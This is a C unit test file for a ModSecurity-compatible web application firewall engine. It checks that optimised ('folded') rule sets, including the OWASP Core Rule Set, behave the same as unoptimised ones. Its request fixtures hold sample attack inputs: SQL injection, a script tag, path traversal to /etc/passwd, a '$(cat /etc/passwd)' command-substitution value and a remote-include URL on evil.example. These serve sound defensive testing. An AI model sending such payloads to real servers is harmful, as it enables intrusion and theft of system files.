/* Neither folding nor the screen must be seen: the same rules, as planned and as written, meet the
 * same requests and must give the same verdicts, matches and TX variables. The cases of single
 * foldings are in cases/parse/fold.txt. */
#include "seclang/replay.h"
#include "seclang/rules.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <unistd.h>

#include <cmocka.h>

#define CRS "/usr/share/modsecurity-crs/rules/"

static const char *const requests[] = {
    "GET / HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n",
    "GET /?q=1%27%20or%20%271%27=%271 HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: "
    "sqlmap/1.0\r\n\r\n",
    "GET /admin/?q=<script>alert(1)</script> HTTP/1.1\r\nHost: 192.0.2.1\r\nCookie: a=1; "
    "__utma=x\r\n"
    "\r\n",
    "POST /contact HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n"
    "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 79\r\n\r\n"
    "name=%E5%B1%B1%E7%94%B0&address=%E5%A4%A7%E9%98%AA&message=..%2F..%2Fetc%2Fpasswd",
    "POST /api HTTP/1.1\r\nHost: shop.example\r\nContent-Type: application/json\r\n"
    "Content-Length: 31\r\n\r\n{\"a\":\"$(cat /etc/passwd)\",\"b\":1}",
    "GET /?a=&b=%00&=c HTTP/1.1\r\nHost:\r\nUser-Agent:\r\nAccept:\r\nReferer: "
    "https://shop.example/?x=../../etc/passwd\r\nCookie: __utmz=<script>; b=%2e%2e%2f\r\n"
    "Range: bytes=9-1\r\n\r\n",
    "PUT /x.php?x=http://evil.example/a.txt? HTTP/1.0\r\nHost: shop.example\r\nContent-Length: "
    "0\r\n\r\n",
};
static const char *const responses[] = {
    "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html>Welcome</html>",
    "HTTP/1.1 500 Error\r\nContent-Type: text/html\r\n\r\nORA-01756: quoted string not properly "
    "terminated <b>Warning</b>: mysql_query() in /var/www/a.php on line 3",
};
enum {
    REQUESTS = sizeof requests / sizeof *requests,
    RESPONSES = sizeof responses / sizeof *responses
};

static struct seclang_rules *
load(const char *before, const char *files, bool fold)
{
    struct seclang_rules *rules;
    struct seclang_source *source = seclang_source_new();
    seclang_source_text(source,
                        SK_STR("SecRequestBodyAccess On\nSecResponseBodyAccess On\n"
                               "SecResponseBodyLimitAction ProcessPartial\n"
                               "SecDefaultAction \"phase:1,log,auditlog,pass\"\n"
                               "SecDefaultAction \"phase:2,log,auditlog,pass\"\n"),
                        "test", 1);
    if (!fold)
        seclang_source_text(source, SK_STR("SekishoFold Off\nSekishoScreen Off\n"), "test", 1);
    seclang_source_text(source, sk_str_of(before), "before", 1);
    if (files) seclang_source_file(source, files);
    sk_err e = seclang_rules_new(&rules, source);
    seclang_source_free(source);
    if (sk_failed(e)) fail_msg("%s", e.why);
    return rules;
}

/* All that can be seen of a transaction, as text. */
static void
describe(struct sk_buf *out, const struct seclang_tx *tx, const struct seclang_rules *names)
{
    size_t count;
    const struct seclang_match *m = seclang_tx_matches(tx, &count);
    for (size_t i = 0; i < count; i++)
        sk_buf_printf(out, "match %u phase %u %.*s=%.*s msg %.*s data %.*s%s%s%s\n", m[i].rule,
                      m[i].phase, SK_ARG(m[i].variable), SK_ARG(m[i].value), SK_ARG(m[i].msg),
                      SK_ARG(m[i].data), m[i].log ? " log" : "", m[i].audit ? " audit" : "",
                      m[i].disruptive ? " disruptive" : "");
    for (size_t i = 0; i < names->tx_slot_count; i++) {
        const char *name = sk_str_zcopy(out->mem, names->tx_name[i]);
        sk_str value = seclang_tx_get(tx, name);
        if (value.p) sk_buf_printf(out, "tx.%s=%.*s\n", name, SK_ARG(value));
    }
    sk_buf_printf(out, "audit %d limit %d\n", seclang_tx_audit_wanted(tx),
                  seclang_tx_limit_hit(tx));
}

static void
describe_verdict(struct sk_buf *out, struct seclang_verdict v)
{
    sk_buf_printf(out, "verdict %d %d by %u\n", (int)v.act, v.status, v.rule);
}

/* `names` gives the variables to look at: those of the rules that were not folded. */
static void
observe(struct sk_buf *out, struct seclang_worker *worker, const struct seclang_rules *rules,
        const struct seclang_rules *names, const char *raw_request, const char *raw_response)
{
    struct seclang_replay message;
    struct seclang_host host = { 0 };
    sk_arena *mem = sk_arena_new(0);
    struct seclang_tx *tx = seclang_tx_new(worker, rules, mem, &host);
    seclang_tx_id(tx, SK_STR("01TEST"));
    seclang_tx_conn(tx, SK_STR("192.0.2.7"), 40000, SK_STR("192.0.2.1"), 443);
    assert_false(sk_failed(seclang_replay_read_request(&message, sk_str_of(raw_request))));
    struct seclang_verdict v = seclang_replay_request(tx, &message);
    describe_verdict(out, v);
    if (v.act == SECLANG_PASS) {
        assert_false(sk_failed(seclang_replay_read_response(&message, sk_str_of(raw_response))));
        describe_verdict(out, seclang_replay_response(tx, &message));
    }
    seclang_tx_logging(tx);
    describe(out, tx, names);
    seclang_tx_free(tx);
    sk_arena_free(mem);
}

/* Both rule sets meet all requests, and again, since a worker remembers what it has judged; returns
 * how many rules were folded away. */
static size_t
compare(const char *before, const char *files)
{
    DEFER(sk_arena_close) sk_arena *mem = sk_arena_new(1 << 16);
    struct seclang_rules *folded = load(before, files, true);
    struct seclang_rules *whole = load(before, files, false);
    size_t count = seclang_rules_settings(folded)->folded_count;
    assert_int_equal(seclang_rules_settings(whole)->folded_count, 0);
    struct seclang_worker *planned, *plain;
    assert_false(sk_failed(seclang_worker_new(&planned, folded)));
    assert_false(sk_failed(seclang_worker_new(&plain, whole)));
    for (size_t k = 0; k < 2 * REQUESTS; k++) {
        size_t i = k % REQUESTS;
        struct sk_buf a = { .mem = mem }, b = { .mem = mem };
        observe(&a, planned, folded, whole, requests[i], responses[i % RESPONSES]);
        observe(&b, plain, whole, whole, requests[i], responses[i % RESPONSES]);
        if (!sk_str_eq(sk_buf_str(&a), sk_buf_str(&b)))
            fail_msg("%s\nfolded:\n%.*s\nwhole:\n%.*s", requests[i], SK_ARG(sk_buf_str(&a)),
                     SK_ARG(sk_buf_str(&b)));
    }
    seclang_worker_free(planned);
    seclang_worker_free(plain);
    seclang_rules_free(folded);
    seclang_rules_free(whole);
    return count;
}

static void
fold__of_small_rule_sets_is_not_seen(void **state)
{
    static const char *const sets[] = {
        /* levels, a default, a sum, a later question in phase 5 */
        "SecRuleEngine On\n"
        "SecRule &TX:level \"@eq 0\" \"id:1,phase:1,nolog,setvar:tx.level=2\"\n"
        "SecRule TX:level \"@lt 2\" \"id:2,phase:2,nolog,skipAfter:A\"\n"
        "SecRule ARGS \"@contains script\" \"id:3,setvar:tx.score=+5\"\n"
        "SecMarker A\n"
        "SecRule TX:level \"@lt 3\" \"id:4,phase:2,nolog,skipAfter:B\"\n"
        "SecRule ARGS \"@rx .\" \"id:5,setvar:tx.score=+9\"\n"
        "SecMarker B\n"
        "SecRule TX:score \"@ge 5\" \"id:6,deny,logdata:%{tx.score}\"\n"
        "SecRule TX:level \"@eq 2\" \"id:7,phase:5,logdata:%{tx.level}\"\n",
        /* ctl that removes an assignment, and jumps with all they jump over */
        "SecRuleEngine On\n"
        "SecRule REQUEST_URI \"@beginsWith /admin\" \"id:1,phase:1,nolog,ctl:ruleRemoveById=2\"\n"
        "SecAction \"id:2,phase:1,nolog,setvar:tx.a=1\"\n"
        "SecAction \"id:3,phase:1,nolog,setvar:tx.b=1\"\n"
        "SecRule REQUEST_URI \"@beginsWith /?q\" \"id:4,phase:1,nolog,ctl:ruleRemoveByTag=x\"\n"
        "SecRule TX:a \"@eq 1\" \"id:5,phase:2,nolog,skipAfter:A\"\n"
        "SecAction \"id:6,logdata:six\"\n"
        "SecMarker A\n"
        "SecRule TX:b \"@eq 1\" \"id:7,phase:2,nolog,tag:x,skipAfter:B\"\n"
        "SecAction \"id:8,tag:x,logdata:eight\"\n"
        "SecMarker B\n"
        "SecRule TX:b \"@eq 1\" \"id:9,phase:2,nolog,tag:x,skipAfter:C\"\n"
        "SecAction \"id:10,logdata:ten\"\n"
        "SecMarker C\n",
        /* allow, skip, what matched before, chains that act half-way */
        "SecRuleEngine DetectionOnly\n"
        "SecRule REQUEST_METHOD \"@streq POST\" \"id:1,phase:1,allow:phase\"\n"
        "SecAction \"id:2,phase:1,nolog,setvar:tx.a=x,skip:1\"\n"
        "SecAction \"id:3,phase:1,setvar:tx.a=y\"\n"
        "SecRule TX:a \"@streq x\" \"id:4,nolog,skipAfter:A\"\n"
        "SecAction \"id:5,setvar:tx.c=1\"\n"
        "SecMarker A\n"
        "SecRule MATCHED_VAR \"@rx ^x$\" \"id:6,logdata:%{MATCHED_VAR}\"\n"
        "SecRule &TX:a \"@eq 1\" \"id:7,nolog,setvar:tx.d=%{tx.a},chain\"\n"
        "SecRule ARGS:q \"@rx .\" \"setvar:tx.e=1\"\n"
        "SecRule TX:d \"@streq x\" \"id:8,deny\"\n",
    };
    (void)state;
    for (size_t i = 0; i < sizeof sets / sizeof *sets; i++) {
        size_t folded = compare(sets[i], NULL);
        assert_true(i == 2 || folded > 0); /* the third leaves nothing certain but its skip */
    }
}

#define SETUP "SecAction \"id:900000,phase:1,nolog,pass,t:none,setvar:tx.crs_setup_version=334\"\n"

static void
fold__of_the_core_rules_is_not_seen(void **state)
{
    (void)state;
    if (access(CRS, R_OK)) skip();
    size_t folded = compare("SecRuleEngine DetectionOnly\n" SETUP, CRS "*.conf");
    assert_true(folded > 300);

    /* Where a ctl may have removed the assignments, less is known. */
    struct seclang_rules *unsure =
        load("SecRuleEngine DetectionOnly\nSecRule REQUEST_URI \"@beginsWith /admin\" "
             "\"id:1,phase:1,nolog,pass,ctl:ruleRemoveById=2-999998\"\n" SETUP,
             CRS "*.conf", true);
    assert_true(seclang_rules_settings(unsure)->folded_count < folded);
    seclang_rules_free(unsure);
}

static void
fold__of_the_core_rules_is_not_seen_with_a_package_and_a_higher_level(void **state)
{
    (void)state;
    if (access(CRS, R_OK)) skip();
    assert_true(compare("SecRuleEngine On\nSecDefaultAction \"phase:1,log,auditlog,deny\"\n"
                        "SecDefaultAction \"phase:2,log,auditlog,deny\"\n" SETUP
                        "SecAction \"id:900001,phase:1,nolog,pass,"
                        "setvar:tx.crs_exclusions_wordpress=1,setvar:tx.paranoia_level=2,"
                        "setvar:tx.executing_paranoia_level=4\"\n",
                        CRS "*.conf") > 50);
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(fold__of_small_rule_sets_is_not_seen),
        cmocka_unit_test(fold__of_the_core_rules_is_not_seen),
        cmocka_unit_test(fold__of_the_core_rules_is_not_seen_with_a_package_and_a_higher_level),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
